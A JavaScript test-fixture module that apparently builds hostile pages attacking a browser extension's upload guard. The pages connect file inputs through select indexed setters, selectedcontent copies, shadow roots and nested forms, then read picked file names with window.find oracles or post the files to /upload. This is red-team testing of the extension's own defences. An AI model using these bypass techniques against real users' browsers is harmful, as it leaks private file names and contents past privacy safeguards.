// Hostile pages for the fifty-eighth attack on the upload guard: the read
// barrier (extension/content/file-barrier.js) and the survey of inserted file
// inputs (insertions.js, withholdInserted). Chromium's own picker fills a
// DETACHED input i (attack 44's labeldeep, uploads.mjs browsersOwnPick); its
// change listener then connects i, or a copy the browser makes of it, by a
// way no wrapped call sees, and reads the name Chromium draws (window.find and
// the selection, as attack 48's findsel). A name learnt goes up as a text note
// "leak-….txt". Served by server.mjs at /attack58-…; tests: attack58.test.mjs.

import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';


/** The text drawn on the line window.find('.jpg') lands on, read through the selection. */
const readDrawn = (why) => `
        const look = (when) => { getSelection().removeAllRanges();
        const hit = window.find('.jpg'); const gs = getSelection(); note('${why} ' + when + ' find dotjpg ' + hit + ' anchor ' + (gs.anchorNode && gs.anchorNode.nodeName));
        if (!hit) return;
        try { gs.modify('move', 'backward', 'lineboundary'); gs.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
        const got = String(gs); note('${why} drawn ' + JSON.stringify(got).replace(/[.]/g, '(dot)'));
        if (got.length > 1) leak(got, '${why}'); };
        if (!window.looked58) { window.looked58 = 1; document.getElementById('status').style.display = 'none'; look('now'); setTimeout(() => look('later'), 500); }`;

const deepPick = (onChange, before = '', setup = '') => browsersOwnPick(onChange, { before: `${leak}\n      ${before}`, setup });

/** A connected <select> (customizable when `custom`), made as the page loads. */
const selectMade = (custom, size = custom ? 1 : 4) => `
      const st = document.createElement('style'); st.textContent = ${JSON.stringify(custom ? 'select, ::picker(select) { appearance: base-select; } select { width: 600px; }' : 'select { width: 600px; }')}; document.head.append(st);
      const sel = document.createElement('select'); sel.id = 'sel58'; sel.size = ${size};
      ${custom ? "const bt = document.createElement('button'); bt.append(document.createElement('selectedcontent')); sel.append(bt);" : ''}
      document.body.append(sel);`;

const HTML_WAYS = {
  // i put into a detached option, and that option into a connected <select> by the indexed setter sel[0] = option
  // (which no script can wrap: insertions.js's "Not covered"): i is connected with no survey.
  selidx: deepPick(`const o = document.createElement('option'); o.append(i); sel[0] = o; note('in doc ' + i.isConnected);${readDrawn('selidx')}`, selectMade(false)),
  // The same into a customizable select: the chosen option's content is COPIED by Chromium into <selectedcontent>
  // (a clone of i, which takes copies of its files), drawn in the select's button.
  selcontent: deepPick(`i.style.fieldSizing = 'content'; const o = document.createElement('option'); o.append(i); sel[0] = o; const sc = sel.querySelector('selectedcontent'); const cp = sc && sc.querySelector('input'); note('in doc ' + i.isConnected + ' copies ' + document.querySelectorAll('input[type=file]').length + ' sc ' + (sc && sc.innerHTML.length) + ' cp ' + (cp && cp.offsetWidth) + ' nofile ' + window.find('No file') + ' choose ' + window.find('Choose') + ' selw ' + sel.offsetWidth + ' ' + getComputedStyle(sel).appearance);${readDrawn('selcontent')}`, selectMade(true)),
  // i (sized to its content) into a customizable LISTBOX select (size 4: its options drawn in the page) by the
  // indexed setter: its width and drawn text.
  selbox: deepPick(`i.style.fieldSizing = 'content'; const o = document.createElement('option'); o.append(i); sel[0] = o; const e = document.createElement('input'); e.type = 'file'; e.style.fieldSizing = 'content'; document.body.append(e); note('in doc ' + i.isConnected + ' w ' + i.offsetWidth + ' empty ' + e.offsetWidth + ' nofile ' + window.find('No file'));${readDrawn('selbox')}`, selectMade(true, 4)),
  // selbox with i in the option from the start: the (empty) label put into a detached option before i goes in,
  // so no wrapped insertion ever holds i with a file; at the change, sel[0] = o connects it.
  selboxearly: deepPick(`const e = document.createElement('input'); e.type = 'file'; e.style.fieldSizing = 'content'; document.body.append(e); sel[0] = o; note('in doc ' + i.isConnected + ' w ' + i.offsetWidth + ' empty ' + e.offsetWidth + ' nofile ' + window.find('No file'));${readDrawn('selboxearly')}`, selectMade(true, 4), "i.style.fieldSizing = 'content'; const o = document.createElement('option'); o.append(l);"),
  // selboxearly, the name read with window.find as an oracle (attack 48's find): grown left from ".jpg", one
  // character at a time (case-sensitive), in the person's sight for a moment only (i taken out after).
  selboxfind: deepPick(`sel[0] = o; document.getElementById('status').style.display = 'none';
        const cs = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._- ()';
        const has = (s) => { getSelection().removeAllRanges(); return window.find(s, true, false, false, false, false, false); };
        let best = has('.jpg') ? '.jpg' : '';
        for (let k = 0; k < 60 && best; k++) { let prev = null; for (const c of cs) if (has(c + best)) { prev = c + best; break; } if (!prev) break; best = prev; }
        o.remove(); note('found ' + JSON.stringify(best).replace(/[.]/g, '(dot)')); if (best) leak(best, 'selboxfind');`, selectMade(true, 4), "const o = document.createElement('option'); o.append(l);"),
  // selboxearly's i inside a form (the select in a POST multipart form to /upload), submitted natively by the
  // page's own click on its submit button, into a frame: the bytes?
  selboxpost: deepPick(`sel[0] = o; note('form ' + (i.form === fm)); b58.click();`, `${selectMade(true, 4)}
      const fm = document.createElement('form'); fm.method = 'post'; fm.enctype = 'multipart/form-data'; fm.action = '/upload'; fm.target = 'sink58';
      const fr = document.createElement('iframe'); fr.name = 'sink58'; document.body.append(fr);
      const b58 = document.createElement('button'); b58.type = 'submit'; fm.append(sel, b58); document.body.append(fm);`, "const o = document.createElement('option'); o.append(l);"),
  // The same by the form's submit() (wrapped: the barrier's withholdForm) and requestSubmit().
  selboxsubmit: deepPick(`sel[0] = o; note('form ' + (i.form === fm)); fm.submit();`, `${selectMade(true, 4)}
      const fm = document.createElement('form'); fm.method = 'post'; fm.enctype = 'multipart/form-data'; fm.action = '/upload'; fm.target = 'sink58';
      const fr = document.createElement('iframe'); fr.name = 'sink58'; document.body.append(fr);
      fm.append(sel); document.body.append(fm);`, "const o = document.createElement('option'); o.append(l);"),
  // The form made by the indexed setter too: a form INSIDE the option (no: forms cannot nest in a select? they can by DOM).
  selboxinner: deepPick(`sel[0] = o; const fm = i.closest('form'); note('form ' + !!fm + ' ' + (i.form === fm)); fm.querySelector('button').click();`, `${selectMade(true, 4)}
      const fr = document.createElement('iframe'); fr.name = 'sink58'; document.body.append(fr);`, "const o = document.createElement('option'); const fm = document.createElement('form'); fm.method = 'post'; fm.enctype = 'multipart/form-data'; fm.action = '/upload'; fm.target = 'sink58'; const b58 = document.createElement('button'); b58.type = 'submit'; fm.append(l, b58); o.append(fm);"),
  // selboxpost inside a shadow root (attachShadow open), and inside a DECLARATIVE open shadow root (setHTMLUnsafe):
  // the form's submit and formdata events do not leave the shadow tree.
  selboxshadow: deepPick(`const sel = root.getElementById('sel58'); sel[0] = o; note('form ' + !!i.form); root.getElementById('b58').click();`, `
      const st = document.createElement('style'); st.textContent = 'select { width: 600px; }'; document.head.append(st);
      const fr = document.createElement('iframe'); fr.name = 'sink58'; document.body.append(fr);
      const h = document.createElement('div'); const root = h.attachShadow({ mode: 'open' }); document.body.append(h);
      root.innerHTML = '<style>select, ::picker(select) { appearance: base-select; }</style><form method="post" enctype="multipart/form-data" action="/upload" target="sink58"><select id="sel58" size="4"></select><button id="b58" type="submit">go</button></form>';`, "const o = document.createElement('option'); o.append(l);"),
  selboxdsd: deepPick(`const root = h.shadowRoot; const sel = root.getElementById('sel58'); sel[0] = o; note('root ' + !!root + ' form ' + !!i.form); root.getElementById('b58').click();`, `
      const fr = document.createElement('iframe'); fr.name = 'sink58'; document.body.append(fr);
      const h = document.createElement('div'); document.body.append(h);
      h.setHTMLUnsafe('<template shadowrootmode="open"><style>select, ::picker(select) { appearance: base-select; }</style><form method="post" enctype="multipart/form-data" action="/upload" target="sink58"><select id="sel58" size="4"></select><button id="b58" type="submit">go</button></form></template>');`, "const o = document.createElement('option'); o.append(l);"),
  selcontentearly: deepPick(`sel[0] = o; const sc = sel.querySelector('selectedcontent'); const cp = sc && sc.querySelector('input'); note('in doc ' + i.isConnected + ' cp ' + (cp && cp.offsetWidth));${readDrawn('selcontentearly')}`, selectMade(true), "i.style.fieldSizing = 'content'; const o = document.createElement('option'); o.append(l);"),
  selidxearly: deepPick(`sel[0] = o; note('in doc ' + i.isConnected);${readDrawn('selidxearly')}`, selectMade(false), "const o = document.createElement('option'); o.append(l);"),
  // The option appended the usual way (a wrapped insertion: surveyed), then chosen: the copy in <selectedcontent>.
  selappend: deepPick(`const o = document.createElement('option'); o.append(i); const o0 = document.createElement('option'); o0.text = 'x'; sel.append(o0, o); o.selected = true; note('copies ' + document.querySelectorAll('input[type=file]').length);${readDrawn('selappend')}`, selectMade(true)),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack58Page = attackPages(58, picker, {});
